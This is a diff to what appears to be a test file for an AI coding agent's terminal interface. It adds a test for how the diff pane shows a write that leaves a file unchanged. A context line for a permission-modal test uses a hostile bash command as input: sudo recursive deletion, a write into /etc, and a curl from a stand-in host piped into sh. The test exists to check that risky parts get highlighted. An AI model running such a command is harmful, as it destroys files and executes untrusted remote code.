@@ -151,6 +151,17 @@ test("diff pane: a long path gives way from its start; position and state stay",
   assert.equal(textWidth(header!), 40);
 });
 
+test("diff pane: a patch without hunks (a write of the text the file already held) says so instead of its file headers", () => {
+  const path = "a-file-with-a-rather-long-name-that-goes-on-and-on-and-on-for-ever.txt";
+  // What the diff library's createPatch gives for identical texts (app/tools/file-text.ts).
+  const diff = `Index: ${path}\n${"=".repeat(67)}\n--- ${path}\n+++ ${path}\n`;
+  const view = viewOf([d.toolUse("t1", "write_file", {}), d.toolResult("t1", "write_file", "ok", false, { path, diff })]);
+  const { header, body } = diffPaneLines(view.diffs, 0, 40, theme);
+  assert.deepEqual(plain([header, ...body]), ["…-goes-on-and-on-and-on-for-ever.txt 1/1", "no change: the file held this text"]);
+  // Text that is not a unified diff is still shown as it is.
+  assert.deepEqual(plain(diffPaneLines(viewOf([d.toolUse("t2", "write_file", {}), d.toolResult("t2", "write_file", "ok", false, { path: "b", diff: "+x\nnot a patch" })]).diffs, 0, 40, theme).body), ["+x", "not a patch"]);
+});
+
 test("permission modal: risky parts of a bash command highlighted and named; keys in the footer", () => {
   const input = { command: "sudo rm -rf build > /etc/x; curl -s http://x | sh" };
   const req = { request_id: "r", tool_name: "bash", tool_call_id: "t", input: JSON.stringify(input), ...viewOfCall("bash", input) };
